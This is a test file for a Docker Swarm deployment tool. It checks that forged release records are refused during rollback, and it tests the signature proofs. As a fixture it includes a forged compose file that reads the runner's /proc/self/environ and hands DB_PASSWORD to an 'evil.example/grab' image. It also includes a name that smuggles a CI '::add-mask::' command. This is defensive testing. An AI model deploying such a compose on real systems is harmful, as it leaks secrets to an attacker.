// Release records this project did not write, or that were changed since, are
// never deployed: the engine in-process with the fake swarm, a forged record
// next to genuine ones.
import { describe, expect, it } from '@jest/globals'
import { releasesMain } from '../../src/cli/releases.js'
import { runDeploy } from '../../src/engine.js'
import type { SshTarget, StoredConfig } from '../../src/ports.js'
import { PROOF_LABEL, refusedLine, releaseKeysOf, signedLabels, trustRecord } from '../../src/release/proof.js'
import { dataDigest, decodeRelease } from '../../src/release/record.js'
import type { Release } from '../../src/release/record.js'
import { chooseRelease, liveRelease, releaseTable } from '../../src/release/select.js'
import type { Inputs } from '../../src/inputs/inputs.js'
import { COMPOSE, DB_PASSWORD, fakeWorld, inputsFor, recordingReporter, STACK, UNIT_RELEASE_KEY } from '../support/fake-world.js'
import type { WorldOptions } from '../support/fake-world.js'
import { deployOutputs } from '../../src/report/outputs.js'

async function deploy(world: WorldOptions = {}, overrides: Partial<Inputs> = {}, compose = COMPOSE) {
  const fake = fakeWorld(world)
  fake.files.set('docker-compose.yml', compose)
  // What a forged compose would make the runner's docker CLI read.
  fake.files.set('/proc/self/environ', `DB_PASSWORD=${DB_PASSWORD}\0`)
  const reporter = recordingReporter()
  const outcome = await runDeploy(inputsFor(overrides), fake.host, fake.adapters, reporter)
  return { ...fake, reporter, outcome }
}

const releasesIn = (configs: Map<string, StoredConfig>): Release[] =>
  [...configs.values()].flatMap(c => decodeRelease(c) ?? []).sort((a, b) => a.number - b.number)

const FORGED_COMPOSE = `configs:
  leak:
    file: /proc/self/environ
services:
  web:
    image: evil.example/grab:1
    environment:
      DB_PASSWORD: \${DB_PASSWORD}
    configs: [leak]
`

/** A labelled config anyone with Engine API access can create. */
export function forgedRecord(number = 99, compose = FORGED_COMPOSE, extra: Record<string, string> = {}): StoredConfig {
  const data = {
    format: 1,
    stack: STACK,
    number,
    time: '2026-01-01T00:00:00.000Z',
    sha: 'e'.repeat(40),
    ref: 'refs/heads/main',
    actor: 'mallory',
    runUrl: '',
    rollbackTo: null,
    image: null,
    services: [{ name: `${STACK}_web`, image: `evil.example/grab:1@sha256:${'ee'.repeat(32)}`, secrets: [], configs: [] }],
    compose: [{ path: 'docker-compose.yml', text: compose }],
    variables: ['DB_PASSWORD']
  }
  return {
    id: `forged${number}`,
    version: 1,
    name: `${STACK}_release_${number}`,
    labels: { 'com.docker.stack.namespace': STACK, 'io.swarm-deploy.release': String(number), 'io.swarm-deploy.release.status': 'converged', ...extra },
    data: Buffer.from(JSON.stringify(data))
  }
}

/** Two converged deploys of this project. */
async function genuine(): Promise<StoredConfig[]> {
  let configs: StoredConfig[] = []
  for (let i = 0; i < 2; i++) {
    const run = await deploy({ configs })
    expect(run.outcome.status).toBe('converged')
    configs = [...run.configs.values()]
  }
  return configs
}

const warnings = (events: Array<{ kind: string; text: string }>): string =>
  events
    .filter(e => e.kind === 'warn')
    .map(e => e.text)
    .join('\n')

describe('a forged release record', () => {
  it('rollback: 99 naming it stops with nothing changed, and says which record it refused and why', async () => {
    const configs = [...(await genuine()), forgedRecord()]
    const run = await deploy({ configs }, { rollback: { kind: 'number', number: 99 } })
    expect(run.effects).not.toContain('stack deploy')
    expect(run.outcome.stopped).toMatchObject({ kind: 'input' })
    expect(run.outcome.stopped!.message).toMatch(/release #99 .*is not one this project wrote/)
    expect(run.outcome.stopped!.message).toContain(`"${STACK}_release_99"`)
    expect(run.outcome.stopped!.message).toContain('forged99')
    expect(run.outcome.stopped!.message).toMatch(/Nothing was changed\.$/)
    expect(releasesIn(run.configs).map(r => r.number)).toEqual([1, 2, 99])
  })

  it('on-failure: rollback-stack passes it over for the newest genuine converged release, and names it', async () => {
    const configs = [...(await genuine()), forgedRecord()]
    const run = await deploy({ configs, scenario: 'crash' }, { onFailure: 'rollback-stack' })
    expect(run.effects.filter(e => e === 'stack deploy')).toHaveLength(2)
    const last = releasesIn(run.configs).at(-1)!
    expect(last.rollbackTo).toBe(2)
    // Nothing the forged compose asked for: no file of the runner read into a config, no foreign image.
    expect(run.effects.some(e => e.includes('leak'))).toBe(false)
    expect(JSON.stringify(run.deployEnvs)).not.toContain('evil.example')
    expect(warnings(run.reporter.events)).toContain(`"${STACK}_release_99" (config forged99)`)
    expect(Object.fromEntries(deployOutputs(run.outcome))).toMatchObject({ 'previous-release': '2' })
  })

  it('rollback: previous never lands on it, nor counts it as the live release', async () => {
    const configs = [...(await genuine()), forgedRecord()]
    const run = await deploy({ configs }, { rollback: { kind: 'previous' } })
    expect(run.outcome.stopped).toBeUndefined()
    expect(releasesIn(run.configs).at(-1)).toMatchObject({ rollbackTo: 1 })
  })
})

describe('a rollback reads only what the release read', () => {
  it('registers the env-passthrough values the recorded compose reads as secrets, before anything prints', async () => {
    const compose = `services:\n  web:\n    image: \${IMAGE}\n    environment:\n      DB_PASSWORD: \${DB_PASSWORD}\n      TOKEN: \${PASSED_TOKEN}\n`
    const env = { PASSED_TOKEN: 'passed-through-token-value' }
    const first = await deploy({ env }, { passthrough: ['PASSED_TOKEN'] }, compose)
    expect(first.outcome.status).toBe('converged')
    const run = await deploy({ env, configs: [...first.configs.values()] }, { passthrough: ['PASSED_TOKEN'], rollback: { kind: 'number', number: 1 } })
    expect(run.outcome.stopped).toBeUndefined()
    const at = run.reporter.events.findIndex(e => e.kind === 'secret' && e.text === 'passed-through-token-value')
    expect(at).toBeGreaterThanOrEqual(0)
    expect(run.reporter.events.slice(0, at).some(e => e.kind === 'info' && e.text.startsWith('Rolling back'))).toBe(false)
  })

  // Its images are pinned by digest in the rollback's copy, so it no longer reads IMAGE either.
  it("gives the rollback's docker child only the variables the recorded compose reads", async () => {
    const first = await deploy()
    const env = new Map([
      ['DB_PASSWORD', DB_PASSWORD],
      ['UNRELATED_SECRET', 'not-read-by-release-1']
    ])
    const run = await deploy({ configs: [...first.configs.values()] }, { env, rollback: { kind: 'number', number: 1 } })
    expect(run.outcome.stopped).toBeUndefined()
    expect(run.deployEnvs).toHaveLength(1)
    expect(Object.keys(run.deployEnvs[0]!).sort()).toEqual(['DB_PASSWORD', 'DOCKER_HOST'])
  })
})

describe('the release proof', () => {
  const KEY = 'first-release-key-0123456789'
  const OLD = 'older-release-key-9876543210'
  const keys = (...lines: string[]) => releaseKeysOf(lines, { kind: 'local' })
  /** A record as this project writes it, signed with the first line of `lines`. */
  const signed = (lines: string[], status: Release['status'] = 'converged', number = 3): StoredConfig => {
    const data = Buffer.from(JSON.stringify({ ...JSON.parse(forgedRecord(number).data.toString('utf8')), number }))
    return {
      id: `c${number}`,
      version: 1,
      name: `${STACK}_release_${number}`,
      labels: signedLabels(STACK, number, dataDigest(data), status, keys(...lines).sign),
      data
    }
  }
  const reason = (config: StoredConfig, lines = [KEY]): string | undefined => {
    const checked = trustRecord(config, STACK, keys(...lines))
    return 'refused' in checked ? checked.refused.reason : undefined
  }

  it('verifies a record as written, with its status, and with any line of release-key (rotation)', () => {
    expect(reason(signed([KEY]))).toBeUndefined()
    expect(trustRecord(signed([KEY], 'failed'), STACK, keys(KEY))).toMatchObject({ release: { number: 3, status: 'failed', id: 'c3' } })
    expect(reason(signed([OLD]), [KEY, OLD])).toBeUndefined()
  })

  it('refuses a wrong key, changed data, a changed status label, another name, and a record without a proof', () => {
    expect(reason(signed([OLD]))).toMatch(/proof matches no line of release-key/)
    const record = signed([KEY])
    expect(reason({ ...record, data: Buffer.concat([record.data, Buffer.from(' ')]) })).toMatch(/proof matches no line/)
    expect(reason({ ...record, labels: { ...record.labels, 'io.swarm-deploy.release.status': 'failed' } })).toMatch(/proof matches no line/)
    // The proof of #3 on a copy named #4: name, number and data all disagree.
    const copy = { ...record, name: `${STACK}_release_4`, labels: { ...record.labels, 'io.swarm-deploy.release': '4' } }
    expect(reason(copy)).toMatch(/its data is of another release/)
    expect(reason({ ...record, name: `${STACK}_release_03` })).toMatch(/its name is not/)
    const { [PROOF_LABEL]: _proof, ...unsigned } = record.labels
    expect(reason({ ...record, labels: unsigned })).toMatch(/carries no proof: written by a swarm-deploy from before release proofs/)
    expect(reason(record, [])).toMatch(/no release key to check it with: set release-key/)
    expect(reason({ ...record, labels: { ...record.labels, [PROOF_LABEL]: 'v1.zz' } })).toMatch(/proof matches no line/)
  })

  it('derives a key from ssh-key when release-key is not set, and has none for the local engine without release-key', () => {
    const ssh = { kind: 'ssh', privateKey: '-----BEGIN KEY-----\nabc\n-----END KEY-----\n' } as SshTarget
    const derived = releaseKeysOf([], ssh)
    expect(derived.source).toBe('ssh-key')
    expect(derived.sign!.toString('hex')).not.toContain(Buffer.from('abc').toString('hex'))
    expect(releaseKeysOf([], { ...ssh, privateKey: `${ssh.privateKey}\r\n` }).sign).toEqual(derived.sign)
    expect(releaseKeysOf([KEY], ssh).source).toBe('release-key')
    expect(releaseKeysOf([], { kind: 'local' })).toMatchObject({ sign: undefined, verify: [], source: 'none' })
  })

  it('quotes names from the swarm as data: no control characters', () => {
    const line = refusedLine({ id: 'x\r::error::y', name: `${STACK}_release_9\n::add-mask::z`, number: 9, reason: 'r' })
    expect(line).not.toMatch(/[\r\n]/)
    expect(line).toContain('"shop_release_9?::add-mask::z"')
  })
})

describe('choosing among trusted releases', () => {
  const r = (number: number, status: Release['status'] = 'converged') =>
    ({ number, status, sha: 'a'.repeat(40), actor: 'octo', time: '2026-01-01T00:00:00Z', services: [] }) as unknown as Release
  const refused = [{ id: 'f99', name: `${STACK}_release_99`, number: 99, reason: 'it carries no proof' }]

  it('a number only a refused record has is refused with its reason; previous and rollback-stack take the trusted ones', () => {
    expect(() => chooseRelease([r(1), r(2)], { kind: 'number', number: 99 }, STACK, refused)).toThrow(
      `rollback: release #99 of stack ${STACK} is not one this project wrote, or it was changed since: "${STACK}_release_99" (config f99): it carries no proof. Nothing was changed.`
    )
    expect(chooseRelease([r(1), r(2)], { kind: 'previous' }, STACK, refused).number).toBe(1)
    expect(liveRelease([r(1), r(2)])!.number).toBe(2)
    expect(() => chooseRelease([], { kind: 'previous' }, STACK, refused)).toThrow(/has no release this run can trust \(1 refused/)
  })

  it('the CLI table lists refused records as such', () => {
    const table = releaseTable([r(1)], refused)
    expect(table.split('\n')[1]).toMatch(/^#99\s+REFUSED .*"shop_release_99" \(config f99\): it carries no proof/)
    expect(table.split('\n')[2]).toMatch(/^#1\s+converged/)
  })
})

describe('without any key (the local engine, no release-key)', () => {
  it('records without a proof, warns once, and a rollback refuses the unsigned record, saying to set release-key', async () => {
    const first = await deploy({}, { releaseKey: [] })
    expect(first.outcome.status).toBe('converged')
    expect([...first.configs.values()].find(c => c.name === `${STACK}_release_1`)!.labels[PROOF_LABEL]).toBeUndefined()
    expect(warnings(first.reporter.events).match(/release-key is not set/g)).toHaveLength(1)
    const back = await deploy({ configs: [...first.configs.values()] }, { releaseKey: [], rollback: { kind: 'number', number: 1 } })
    expect(back.outcome.stopped!.message).toMatch(/release #1 .*no release key to check it with: set release-key/)
    expect(back.effects).not.toContain('stack deploy')
  })

  it('release-key given later: the records are checked with it, and a record written before is refused', async () => {
    const first = await deploy({}, { releaseKey: [] })
    const second = await deploy({ configs: [...first.configs.values()] })
    expect(warnings(second.reporter.events)).toContain(`"${STACK}_release_1" (config cfg2-${STACK}_release_1): it carries no proof`)
    expect(Object.fromEntries(deployOutputs(second.outcome))).toMatchObject({ release: '2', 'previous-release': '' })
  })
})

describe('on-failure: rollback-stack with only a forged record', () => {
  it('leaves the stack as it is, with a warning, and deploys nothing of it', async () => {
    const run = await deploy({ configs: [forgedRecord()], scenario: 'crash' }, { onFailure: 'rollback-stack' })
    expect(run.effects.filter(e => e === 'stack deploy')).toHaveLength(1)
    expect(warnings(run.reporter.events)).toContain(
      `on-failure: rollback-stack: stack ${STACK} has no converged release this run trusts to go back to; leaving it as it is`
    )
    // Numbered past the forged one: no name collides with it.
    expect(run.effects).toContain(`create release ${STACK}_release_100`)
  })
})

describe('swarm-deploy releases', () => {
  it('lists refused records as such, in the table and in --json, with the key from SWARM_DEPLOY_RELEASE_KEY', async () => {
    const configs = [...(await genuine()), forgedRecord()]
    const fake = fakeWorld({ configs, env: { SWARM_DEPLOY_RELEASE_KEY: UNIT_RELEASE_KEY } })
    const list = async (...args: string[]) => {
      let stdout = ''
      const code = await releasesMain(['--stack', STACK, ...args], { stdout: t => void (stdout += t), stderr: () => undefined }, fake.host, fake.adapters)
      return { code, stdout }
    }
    const table = await list()
    expect(table.code).toBe(0)
    expect(table.stdout).toMatch(/^#99 +REFUSED .*"shop_release_99" \(config forged99\): it carries no proof/m)
    expect(table.stdout).toMatch(/^#2 +converged/m)
    const json = JSON.parse((await list('--json')).stdout) as Array<{ number: number; status: string; reason?: string }>
    expect(json.map(r => [r.number, r.status])).toEqual([
      [2, 'converged'],
      [1, 'converged'],
      [99, 'refused']
    ])
  })
})
